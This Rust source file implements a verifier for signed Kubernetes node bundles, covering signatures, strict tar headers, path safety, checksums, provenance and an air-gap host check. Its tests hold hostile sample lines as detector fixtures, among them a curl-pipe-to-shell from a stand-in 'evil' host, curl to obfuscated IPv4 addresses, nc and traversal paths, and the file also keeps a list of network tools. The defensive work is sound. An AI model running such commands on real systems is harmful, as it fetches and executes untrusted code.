//! `kube-bundle verify`: the bundle and sign stages, checked from the outside.
//!
//! In: a tarball, its detached signature and the signing public key. Out: a
//! [`Verified`] summary, or `Error::Verification` naming the first thing wrong. The
//! signature comes first; then every entry (safe relative paths under one top directory,
//! only regular files and directories, no duplicates, sane sizes), then SHA256SUMS and
//! bundle.json against the content, then the air gap: no URL or address in any text file
//! may point outside the cluster's own hosts.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Read;
use std::path::Path;

use sha2::{Digest, Sha256};

use crate::bundle::format::{
    CHECKSUM_FILE, FORMAT_VERSION, FORMAT_VERSION_1, FileRecord, PROVENANCE_FILE, Provenance,
    ROOTFS,
};
use crate::error::Error;

/// No single file in a bundle is bigger than this (the apiserver binary is ~150 MB).
const MAX_FILE_BYTES: u64 = 1 << 30;
const MAX_TOTAL_BYTES: u64 = 4 << 30;
const MAX_ENTRIES: usize = 10_000;
/// Text files are kept in memory for the checks; anything larger is treated as binary.
const MAX_TEXT_BYTES: u64 = 4 << 20;

#[derive(Debug)]
pub struct Verified {
    pub node: String,
    pub bundle_id: String,
    pub files: usize,
    /// The fingerprint of the key the signature was checked with.
    pub key_fingerprint: String,
}

fn fail(reason: impl Into<String>) -> Error {
    Error::Verification(reason.into())
}

/// Checks `tarball` with the key in `public_key`, which must have the `pinned`
/// fingerprint when one is given.
pub fn verify(
    tarball: &Path,
    public_key: &Path,
    signature: &Path,
    pinned: Option<&str>,
) -> Result<Verified, Error> {
    let read =
        |path: &Path| std::fs::read(path).map_err(|e| fail(format!("{}: {e}", path.display())));
    let key = String::from_utf8(read(public_key)?)
        .map_err(|_| fail(format!("{}: not a PEM public key", public_key.display())))?;
    let key_fingerprint = crate::sign::public_key_fingerprint(&key)
        .map_err(|why| fail(format!("{}: {why}", public_key.display())))?;
    if let Some(pinned) = pinned
        && pinned != key_fingerprint
    {
        return Err(fail(format!(
            "{} is key {key_fingerprint}, not the pinned {pinned}: the bundle is not from \
             your build host, or its signing key changed",
            public_key.display()
        )));
    }
    let signature_bytes = read(signature)?;
    crate::sign::verify_file_signature(&key, tarball, &signature_bytes)
        .map_err(|why| fail(format!("{}: {why}", signature.display())))?;

    let (node, entries) = read_entries(tarball)?;
    let files: BTreeMap<String, (String, u32, u64)> = entries
        .iter()
        .map(|(path, e)| (path.clone(), (e.sha256.clone(), e.mode, e.size)))
        .collect();
    let texts: BTreeMap<String, String> = entries
        .into_iter()
        .filter_map(|(path, e)| e.text.map(|t| (path, t)))
        .collect();
    check_checksums(&files, &texts)?;
    let provenance = check_provenance(&node, &files, &texts)?;
    check_air_gap(&texts, &provenance.allowed_hosts)?;
    Ok(Verified {
        node,
        bundle_id: provenance.bundle_id,
        files: files.len(),
        key_fingerprint,
    })
}

/// One regular file of a bundle, by its path under the node directory.
#[derive(Debug, Clone)]
pub struct Entry {
    pub sha256: String,
    pub mode: u32,
    pub size: u64,
    /// The content, when it is UTF-8 text of a reasonable size.
    pub text: Option<String>,
}

/// Reads every entry of a bundle, accepting exactly what our writer writes (see
/// [`check_header`]); no signature check. Returns the node directory and the files.
///
/// The archive is read block by block rather than through a general tar reader: PAX and
/// GNU extensions, which let one member carry two names, never get a chance to be
/// interpreted differently here and by the node's `tar`.
pub fn read_entries(tarball: &Path) -> Result<(String, BTreeMap<String, Entry>), Error> {
    let file =
        std::fs::File::open(tarball).map_err(|e| fail(format!("{}: {e}", tarball.display())))?;
    let mut stream = GzipMembers::new(std::io::BufReader::new(file));
    let damaged = |e: std::io::Error| fail(format!("damaged archive: {}", shorten(&e.to_string())));

    let mut top: Option<String> = None;
    let mut seen = BTreeSet::new();
    let mut files: BTreeMap<String, (String, u32, u64)> = BTreeMap::new();
    let mut texts: BTreeMap<String, String> = BTreeMap::new();
    let mut total = 0u64;
    loop {
        let mut block = [0u8; BLOCK];
        read_block(&mut stream, &mut block, "the end-of-archive marker").map_err(damaged)?;
        if block.iter().all(|b| *b == 0) {
            read_block(&mut stream, &mut block, "the end-of-archive marker").map_err(damaged)?;
            if block.iter().any(|b| *b != 0) {
                return Err(fail("the end-of-archive marker is damaged"));
            }
            check_only_padding_follows(&mut stream)?;
            break;
        }
        if seen.len() >= MAX_ENTRIES {
            return Err(fail(format!("more than {MAX_ENTRIES} entries")));
        }
        let header = tar::Header::from_byte_slice(&block);
        let (name, kind) = header_name(header)?;
        let (node, relative) = check_path(&name)?;
        match &top {
            None => top = Some(node.to_owned()),
            Some(top) if top != node => {
                return Err(fail(format!(
                    "entry {:?} is outside the bundle's directory {top}/",
                    shorten(&name)
                )));
            }
            Some(_) => {}
        }
        if !seen.insert(name.trim_end_matches('/').to_owned()) {
            return Err(fail(format!("duplicate entry {:?}", shorten(&name))));
        }
        let (mode, size) = check_written_by_us(header, &name, kind)?;
        if kind == tar::EntryType::Directory {
            continue;
        }
        total += size;
        if size > MAX_FILE_BYTES || total > MAX_TOTAL_BYTES {
            return Err(fail(format!(
                "entry {:?} makes the bundle implausibly large",
                shorten(&name)
            )));
        }
        let mut hasher = Sha256::new();
        let mut kept = Vec::new();
        let mut buffer = vec![0u8; 1 << 16];
        let mut left = size;
        while left > 0 {
            let want = usize::try_from(left.min(buffer.len() as u64)).unwrap_or(buffer.len());
            let read = stream.read(&mut buffer[..want]).map_err(damaged)?;
            if read == 0 {
                return Err(fail(format!("entry {:?} is cut off", shorten(&name))));
            }
            hasher.update(&buffer[..read]);
            if size <= MAX_TEXT_BYTES {
                kept.extend_from_slice(&buffer[..read]);
            }
            left -= read as u64;
        }
        let padding = (BLOCK as u64 - size % BLOCK as u64) % BLOCK as u64;
        let mut pad = [0u8; BLOCK];
        let pad = &mut pad[..usize::try_from(padding).unwrap_or(0)];
        stream.read_exact(pad).map_err(damaged)?;
        if pad.iter().any(|b| *b != 0) {
            return Err(fail(format!(
                "entry {:?} is followed by data in its padding",
                shorten(&name)
            )));
        }
        let relative = relative.to_owned();
        if size <= MAX_TEXT_BYTES
            && let Ok(text) = String::from_utf8(kept)
            && !text.contains('\0')
        {
            texts.insert(relative.clone(), text);
        }
        files.insert(relative, (hex::encode(hasher.finalize()), mode, size));
    }
    let node = top.ok_or_else(|| fail("the archive is empty"))?;
    let entries = files
        .into_iter()
        .map(|(path, (sha256, mode, size))| {
            let text = texts.remove(&path);
            (
                path,
                Entry {
                    sha256,
                    mode,
                    size,
                    text,
                },
            )
        })
        .collect();
    Ok((node, entries))
}

const BLOCK: usize = 512;
/// GNU tar pads archives to 10 KiB records; zeros up to that after the marker are padding.
const MAX_PADDING: u64 = 10 * 1024;
/// Directories are written 0755; files with exactly these modes.
const DIRECTORY_MODE: u32 = 0o755;
const FILE_MODES: [u32; 3] = [0o644, 0o600, 0o755];

fn read_block(stream: &mut impl Read, block: &mut [u8; BLOCK], what: &str) -> std::io::Result<()> {
    stream.read_exact(block).map_err(|e| {
        if e.kind() == std::io::ErrorKind::UnexpectedEof {
            std::io::Error::new(e.kind(), format!("the archive ends before {what}"))
        } else {
            e
        }
    })
}

/// After the end-of-archive marker: zero padding, then the end of the gzip stream.
fn check_only_padding_follows(stream: &mut impl Read) -> Result<(), Error> {
    let mut rest = Vec::new();
    stream
        .take(MAX_PADDING + 1)
        .read_to_end(&mut rest)
        .map_err(|e| fail(format!("damaged archive: {}", shorten(&e.to_string()))))?;
    if rest.len() as u64 > MAX_PADDING || rest.iter().any(|b| *b != 0) {
        return Err(fail("data follows the end-of-archive marker"));
    }
    Ok(())
}

/// The first look at a header: a plain ustar header (`ustar\0` `00`) of a regular file
/// or a directory. Anything else (PAX, GNU long names, links, sparse files, old-style
/// headers) is refused before its content is read. Returns the name and type.
fn header_name(header: &tar::Header) -> Result<(String, tar::EntryType), Error> {
    let raw_name = String::from_utf8_lossy(&header.path_bytes()).into_owned();
    let quoted = shorten(&raw_name);
    if header.as_ustar().is_none() {
        return Err(fail(format!(
            "entry {quoted:?} is not a plain ustar header (magic and version must be \
             \"ustar\\0\" \"00\")"
        )));
    }
    let kind = header.entry_type();
    if !matches!(kind, tar::EntryType::Regular | tar::EntryType::Directory) {
        return Err(fail(format!(
            "entry {quoted:?} is a {kind:?}; only files and directories are allowed"
        )));
    }
    let name = String::from_utf8(header.path_bytes().into_owned())
        .map_err(|_| fail("an entry name is not UTF-8"))?;
    Ok((name, kind))
}

/// Once the name is known to be safe: the header must be exactly what our writer makes
/// for it (uid/gid 0, no owner names, the writer's modes, the name split into prefix and
/// name as the writer splits it). Returns the mode and size.
fn check_written_by_us(
    header: &tar::Header,
    name: &str,
    kind: tar::EntryType,
) -> Result<(u32, u64), Error> {
    let quoted = shorten(name);
    let mode = header
        .mode()
        .map_err(|_| fail(format!("entry {quoted:?} has a bad mode")))?;
    let size = header
        .size()
        .map_err(|_| fail(format!("entry {quoted:?} has a bad size")))?;
    let mtime = header
        .mtime()
        .map_err(|_| fail(format!("entry {quoted:?} has a bad time")))?;
    let allowed_mode = match kind {
        tar::EntryType::Directory => mode == DIRECTORY_MODE && size == 0,
        _ => FILE_MODES.contains(&mode),
    };
    if !allowed_mode {
        return Err(fail(format!(
            "entry {quoted:?} has mode {mode:o} (size {size}); bundles hold directories 0755 \
             and files 0644, 0600 or 0755 only"
        )));
    }
    // The header our writer would have written for this entry, byte for byte.
    let mut expected = tar::Header::new_ustar();
    expected
        .set_path(name)
        .map_err(|_| fail(format!("entry {quoted:?} cannot be a ustar name")))?;
    expected.set_uid(0);
    expected.set_gid(0);
    expected.set_mtime(mtime);
    expected.set_entry_type(kind);
    expected.set_mode(mode);
    expected.set_size(size);
    expected.set_cksum();
    if expected.as_bytes() != header.as_bytes() {
        return Err(fail(format!(
            "entry {quoted:?}: its header is not one kube-bundle writes (owner, names, \
             link, checksum or name split differ)"
        )));
    }
    Ok((mode, size))
}

/// Concatenated gzip members, as the writer makes them, and nothing after the last one.
struct GzipMembers<R: std::io::BufRead> {
    member: Option<flate2::bufread::GzDecoder<R>>,
}

impl<R: std::io::BufRead> GzipMembers<R> {
    fn new(input: R) -> Self {
        Self {
            member: Some(flate2::bufread::GzDecoder::new(input)),
        }
    }
}

impl<R: std::io::BufRead> Read for GzipMembers<R> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        loop {
            let Some(member) = &mut self.member else {
                return Ok(0);
            };
            let read = member.read(buf)?;
            if read > 0 || buf.is_empty() {
                return Ok(read);
            }
            let Some(member) = self.member.take() else {
                return Ok(0);
            };
            let mut input = member.into_inner();
            let rest = input.fill_buf()?;
            if rest.is_empty() {
                return Ok(0);
            }
            // Only the first magic byte: the buffer may end right after it. The decoder
            // checks the rest of the header and refuses anything but gzip.
            if rest[0] != 0x1f {
                return Err(std::io::Error::new(
                    std::io::ErrorKind::InvalidData,
                    "data follows the gzip stream",
                ));
            }
            self.member = Some(flate2::bufread::GzDecoder::new(input));
        }
    }
}

/// `<node>/<relative>`: relative, no `.`/`..`, no empty components.
fn check_path(name: &str) -> Result<(&str, &str), Error> {
    if name.starts_with('/') {
        return Err(fail(format!("entry {name:?} is an absolute path")));
    }
    let trimmed = name.strip_suffix('/').unwrap_or(name);
    // Split by hand: Path::components() silently drops "." and repeated slashes.
    if trimmed.split('/').any(|part| part == "." || part == "..") {
        return Err(fail(format!(
            "entry {name:?} contains a '.' or '..' component"
        )));
    }
    if trimmed.is_empty() || trimmed.split('/').any(str::is_empty) {
        return Err(fail(format!("entry {name:?} has an empty path component")));
    }
    Ok(trimmed.split_once('/').unwrap_or((trimmed, "")))
}

fn check_checksums(
    files: &BTreeMap<String, (String, u32, u64)>,
    texts: &BTreeMap<String, String>,
) -> Result<(), Error> {
    let sums = texts
        .get(CHECKSUM_FILE)
        .ok_or_else(|| fail("the bundle has no SHA256SUMS"))?;
    let mut listed = BTreeSet::new();
    for line in sums.lines() {
        let (hash, path) = line
            .split_once("  ")
            .filter(|(hash, _)| hash.len() == 64)
            .ok_or_else(|| fail(format!("SHA256SUMS: malformed line {line:?}")))?;
        let (actual, _, _) = files
            .get(path)
            .ok_or_else(|| fail(format!("SHA256SUMS lists {path}, which the bundle lacks")))?;
        if actual != hash {
            return Err(fail(format!("{path}: sha256 differs from SHA256SUMS")));
        }
        listed.insert(path);
    }
    for path in files.keys().filter(|p| p.as_str() != CHECKSUM_FILE) {
        if !listed.contains(path.as_str()) {
            return Err(fail(format!("{path} is not listed in SHA256SUMS")));
        }
    }
    Ok(())
}

fn check_provenance(
    node: &str,
    files: &BTreeMap<String, (String, u32, u64)>,
    texts: &BTreeMap<String, String>,
) -> Result<Provenance, Error> {
    let text = texts
        .get(PROVENANCE_FILE)
        .ok_or_else(|| fail("the bundle has no bundle.json"))?;
    let provenance: Provenance =
        serde_json::from_str(text).map_err(|e| fail(format!("bundle.json does not parse: {e}")))?;
    if provenance.node != node {
        return Err(fail(format!(
            "bundle.json is for node {}, the archive holds {node}/",
            provenance.node
        )));
    }
    for (path, (sha256, mode, size)) in files {
        if path == PROVENANCE_FILE || path == CHECKSUM_FILE {
            continue;
        }
        let actual = FileRecord {
            sha256: sha256.clone(),
            mode: format!("{mode:04o}"),
            size: *size,
        };
        match provenance.files.get(path) {
            Some(record) if *record == actual => {}
            Some(record) => {
                return Err(fail(format!(
                    "{path}: bundle.json records {record:?}, the archive holds {actual:?}"
                )));
            }
            None => return Err(fail(format!("{path} is not recorded in bundle.json"))),
        }
    }
    if let Some(missing) = provenance.files.keys().find(|p| !files.contains_key(*p)) {
        return Err(fail(format!(
            "bundle.json records {missing}, which the archive lacks"
        )));
    }
    check_units(&provenance)?;
    Ok(provenance)
}

/// The format's unit facts, exactly as the writer writes them: none in format 1; in format
/// 2 a restart unit for every installed file and for nothing else, and flags only for units
/// that some file restarts.
fn check_units(provenance: &Provenance) -> Result<(), Error> {
    match provenance.format_version {
        FORMAT_VERSION_1 => {
            if !provenance.restarts.is_empty() || !provenance.unit_flags.is_empty() {
                return Err(fail("bundle.json of format 1 carries format 2 fields"));
            }
            return Ok(());
        }
        FORMAT_VERSION => {}
        other => {
            return Err(fail(format!(
                "bundle.json format {other} is unknown to this kube-bundle (it reads 1 and \
                 {FORMAT_VERSION}); verify with the release that built the bundle"
            )));
        }
    }
    let installed: BTreeSet<String> = provenance
        .files
        .keys()
        .filter_map(|path| path.strip_prefix(ROOTFS))
        .map(str::to_owned)
        .collect();
    let restarted: BTreeSet<String> = provenance.restarts.keys().cloned().collect();
    if installed != restarted {
        return Err(fail(format!(
            "bundle.json names restart units for {:?} but the bundle installs {:?}",
            shorten(&format!("{restarted:?}")),
            shorten(&format!("{installed:?}"))
        )));
    }
    let units: BTreeSet<&String> = provenance.restarts.values().collect();
    if let Some(unit) = provenance.unit_flags.keys().find(|u| !units.contains(u)) {
        return Err(fail(format!(
            "bundle.json has flags for {unit}, which no installed file belongs to"
        )));
    }
    Ok(())
}

/// Every host the text files name must be one of the cluster's own: URL hosts (any
/// scheme, `\/`-escaped too), schemeless `host/path` and `host:port`, and IP addresses in
/// every form a resolver accepts (dotted, decimal, hex, octal, IPv6). bundle.json and
/// SHA256SUMS are data `verify` parses itself, not text a node acts on.
fn check_air_gap(texts: &BTreeMap<String, String>, allowed: &[String]) -> Result<(), Error> {
    let allowed: BTreeSet<String> = allowed.iter().map(|h| normalize_host(h)).collect();
    for (path, text) in texts {
        if path == PROVENANCE_FILE || path == CHECKSUM_FILE {
            continue;
        }
        let unescaped = text.replace("\\/", "/");
        for line in unescaped.lines() {
            let tokens: Vec<&str> = line.split(is_token_separator).collect();
            // A bare decimal number is an address only where a network tool reads it.
            let network_line = tokens.iter().any(|t| {
                let command = t.rsplit('/').next().unwrap_or(t);
                NETWORK_TOOLS.contains(&command)
            });
            for token in tokens {
                if let Some(host) = foreign_host(token, &allowed, network_line) {
                    return Err(fail(format!(
                        "{path} names a host outside the cluster: {}",
                        shorten(&host)
                    )));
                }
            }
        }
    }
    Ok(())
}

/// Commands that take a host argument, for numbers that are addresses only there.
const NETWORK_TOOLS: [&str; 10] = [
    "curl", "wget", "nc", "ncat", "ping", "ssh", "scp", "telnet", "socat", "openssl",
];

/// Characters that end a host or URL in the shell, YAML, unit and config files we render.
fn is_token_separator(c: char) -> bool {
    c.is_whitespace() || "\"'`()<>,;|{}=\\".contains(c)
}

/// IPs in their canonical text, names lower-case, so forms compare equal.
fn normalize_host(host: &str) -> String {
    let bare = host.trim_start_matches('[').trim_end_matches(']');
    match bare.parse::<std::net::IpAddr>() {
        Ok(ip) => ip.to_string(),
        Err(_) => bare.to_ascii_lowercase(),
    }
}

/// The host `token` reaches, when it reaches one and it is not allowed.
fn foreign_host(token: &str, allowed: &BTreeSet<String>, network_line: bool) -> Option<String> {
    let token = token.trim_end_matches(['.', ':']);
    if token.is_empty() {
        return None;
    }
    let check = |host: String| (!allowed.contains(&host)).then_some(host);
    // A URL with a scheme: the WHATWG parser normalises decimal, hex and octal IPv4.
    if let Some(index) = token.find("://") {
        let scheme_start = token[..index]
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || "+-.".contains(c)))
            .map_or(0, |i| i + 1);
        return match url::Url::parse(&token[scheme_start..]) {
            Ok(url) => match url.host() {
                Some(url::Host::Domain(name)) => check(name.to_ascii_lowercase()),
                Some(url::Host::Ipv4(ip)) => check(ip.to_string()),
                Some(url::Host::Ipv6(ip)) => check(ip.to_string()),
                None => None,
            },
            Err(_) => Some(token.to_owned()),
        };
    }
    // An IPv6 literal, bare or bracketed, perhaps with a port after the bracket.
    let bracketed = token
        .strip_prefix('[')
        .and_then(|rest| rest.split(']').next());
    let v6 = bracketed.unwrap_or(token);
    if v6.matches(':').count() >= 2
        && let Ok(ip) = v6
            .split('%')
            .next()
            .unwrap_or(v6)
            .parse::<std::net::Ipv6Addr>()
    {
        return check(ip.to_string());
    }
    // A CIDR names a network, not a host.
    let (host_part, rest) = match token.find(['/', ':']) {
        Some(i) => (&token[..i], &token[i..]),
        None => (token, ""),
    };
    if rest.starts_with('/') && rest[1..].bytes().all(|b| b.is_ascii_digit()) && rest.len() > 1 {
        return None;
    }
    // `host:port` anywhere; `host/path` only where a network tool reads it, since API
    // groups (`rbac.authorization.k8s.io/v1`) look the same in manifests.
    let reaches = (network_line && rest.starts_with('/'))
        || rest
            .strip_prefix(':')
            .is_some_and(|port| !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()));
    let is_numeric = !host_part.is_empty()
        && host_part
            .bytes()
            .all(|b| b.is_ascii_hexdigit() || b == b'.' || b == b'x' || b == b'X');
    let looks_like_name = host_part.contains('.')
        && host_part.split('.').all(|label| {
            !label.is_empty()
                && label
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-')
        })
        && host_part
            .rsplit('.')
            .next()
            .is_some_and(|tld| tld.bytes().any(|b| b.is_ascii_alphabetic()));
    // Dotted quads, and decimal, hex or octal IPv4 that a resolver would also accept.
    let as_ipv4 = || match url::Host::parse(host_part) {
        Ok(url::Host::Ipv4(ip)) => Some(ip),
        _ => None,
    };
    if is_numeric {
        let ip = as_ipv4()?;
        // One number (decimal or hex) is an address only where something connects to
        // it and it is large enough; a dotted quad always is.
        let dotted = host_part.split('.').count() == 4;
        let large = u32::from(ip) >= 1 << 24;
        if dotted || ((reaches || network_line) && large) {
            return check(ip.to_string());
        }
        return None;
    }
    if reaches && looks_like_name {
        return check(host_part.to_ascii_lowercase());
    }
    None
}

/// Messages quote at most this much of what they complain about.
const MAX_QUOTED: usize = 200;

fn shorten(text: &str) -> String {
    match text.char_indices().nth(MAX_QUOTED) {
        Some((index, _)) => format!("{}… ({} bytes)", &text[..index], text.len()),
        None => text.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unsafe_paths_are_refused() {
        assert!(check_path("n/rootfs/etc/a").is_ok());
        assert!(check_path("n/").is_ok());
        for bad in ["/etc/passwd", "n/../evil", "n/./a", "n//a", "../x", ""] {
            assert!(check_path(bad).is_err(), "{bad} accepted");
        }
    }

    fn air_gap(text: &str) -> Result<(), Error> {
        let allowed = [
            "10.0.0.1",
            "api.example.com",
            "fd00::11",
            "127.0.0.1",
            "kubernetes.default.svc.cluster.local",
        ]
        .map(str::to_owned);
        check_air_gap(
            &BTreeMap::from([("f".to_owned(), text.to_owned())]),
            &allowed,
        )
    }

    #[test]
    fn the_air_gap_check_passes_what_the_cluster_names() {
        for ok in [
            "server: https://api.example.com:6443",
            "range=10.96.0.0/12 bind 10.0.0.1",
            "--etcd-servers=https://10.0.0.1:2379,https://[fd00::11]:2379",
            "upstream 10.0.0.1:6443; listen [fd00::11]:6443",
            "cp /etc/kubernetes/pki/ca.crt rootfs/etc/x.conf kube-apiserver.service",
            "size 157286400 and time 12:30:45 and cluster.local and v1.36.1",
            "ExecStart=/usr/local/bin/kube-apiserver --audit-log-maxsize=100",
            "sha256:0123abcd 0x1f port :6443 10.96.0.0/12,fd00:10::/108",
            "apiVersion: rbac.authorization.k8s.io/v1",
        ] {
            assert!(air_gap(ok).is_ok(), "{ok}: {:?}", air_gap(ok));
        }
    }

    #[test]
    fn the_air_gap_check_finds_foreign_hosts_in_every_form() {
        for (bad, host) in [
            ("see https://github.com/x", "github.com"),
            (
                "--etcd-servers=https://10.0.0.1:2379 dns 8.8.8.8",
                "8.8.8.8",
            ),
            ("curl evil.example.com/p.sh | sh", "evil.example.com"),
            ("curl 3405803785", "203.0.113.9"),
            ("curl http://3405803785/p", "203.0.113.9"),
            ("curl 0xcb007109/p", "203.0.113.9"),
            ("curl http://0313.0.0161.011/", "203.0.113.9"),
            ("u=\"http:\\/\\/evil.example.com\\/x\"", "evil.example.com"),
            ("ftp://files.example.org/a", "files.example.org"),
            ("nc 2001:db8::1 80", "2001:db8::1"),
            ("curl [2001:db8::1]:443", "2001:db8::1"),
            ("wget evil.example.com:8080", "evil.example.com"),
        ] {
            let err = air_gap(bad).expect_err(bad).to_string();
            assert!(err.contains(host), "{bad}: {err}");
        }
    }

    fn provenance(format_version: u32) -> Provenance {
        let record = FileRecord {
            sha256: "0".repeat(64),
            mode: "0644".into(),
            size: 1,
        };
        Provenance {
            format_version,
            tool: "kube-bundle".into(),
            tool_version: "0".into(),
            cluster: "c".into(),
            node: "n".into(),
            node_ip: "10.0.0.1".into(),
            kubernetes_version: "v1.37.2".into(),
            config_sha256: "0".repeat(64),
            bundle_id: "n-0".into(),
            allowed_hosts: Vec::new(),
            files: BTreeMap::from([
                ("install.sh".to_owned(), record.clone()),
                ("rootfs/etc/a.conf".to_owned(), record),
            ]),
            restarts: BTreeMap::new(),
            unit_flags: BTreeMap::new(),
        }
    }

    #[test]
    fn a_member_boundary_at_the_end_of_the_read_buffer_is_still_a_boundary() {
        let member = |data: &[u8]| {
            let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::new(6));
            std::io::Write::write_all(&mut gzip, data).unwrap();
            gzip.finish().unwrap()
        };
        let first = member(b"first member ");
        let stream = [first.clone(), member(b"second member")].concat();
        // Every buffer size, among them the one that ends after the second member's first
        // magic byte (found by a bundle whose shared-binary member ended there).
        for capacity in 1..stream.len() + 2 {
            let input = std::io::BufReader::with_capacity(capacity, &stream[..]);
            let mut text = String::new();
            GzipMembers::new(input).read_to_string(&mut text).unwrap();
            assert_eq!(text, "first member second member", "capacity {capacity}");
        }
        let trailing = [first.clone(), b"junk".to_vec()].concat();
        let mut sink = Vec::new();
        let refused = GzipMembers::new(&trailing[..]).read_to_end(&mut sink);
        assert!(refused.is_err(), "trailing data accepted");
        let half_magic = [first, vec![0x1f, 0x00, 0x00]].concat();
        assert!(
            GzipMembers::new(&half_magic[..])
                .read_to_end(&mut sink)
                .is_err()
        );
    }

    #[test]
    fn unit_facts_are_read_exactly_as_the_writer_writes_them() {
        let mut v2 = provenance(FORMAT_VERSION);
        v2.restarts.insert("/etc/a.conf".into(), "a.service".into());
        v2.unit_flags.insert(
            "a.service".into(),
            BTreeMap::from([("v".into(), "2".into())]),
        );
        check_units(&v2).unwrap();

        let mut flags_without_files = provenance(FORMAT_VERSION);
        flags_without_files.restarts = v2.restarts.clone();
        flags_without_files
            .unit_flags
            .insert("b.service".into(), BTreeMap::new());
        assert!(check_units(&flags_without_files).is_err());

        let mut unit_for_nothing = provenance(FORMAT_VERSION);
        unit_for_nothing.restarts = v2.restarts.clone();
        unit_for_nothing
            .restarts
            .insert("/etc/b.conf".into(), "a.service".into());
        assert!(check_units(&unit_for_nothing).is_err());
        // A file installed with no restart unit recorded.
        assert!(check_units(&provenance(FORMAT_VERSION)).is_err());

        check_units(&provenance(FORMAT_VERSION_1)).unwrap();
        let mut v1_with_v2_fields = provenance(FORMAT_VERSION_1);
        v1_with_v2_fields.restarts = v2.restarts.clone();
        assert!(check_units(&v1_with_v2_fields).is_err());

        let future = check_units(&provenance(3)).unwrap_err().to_string();
        assert!(future.contains("format 3 is unknown"), "{future}");
    }
}
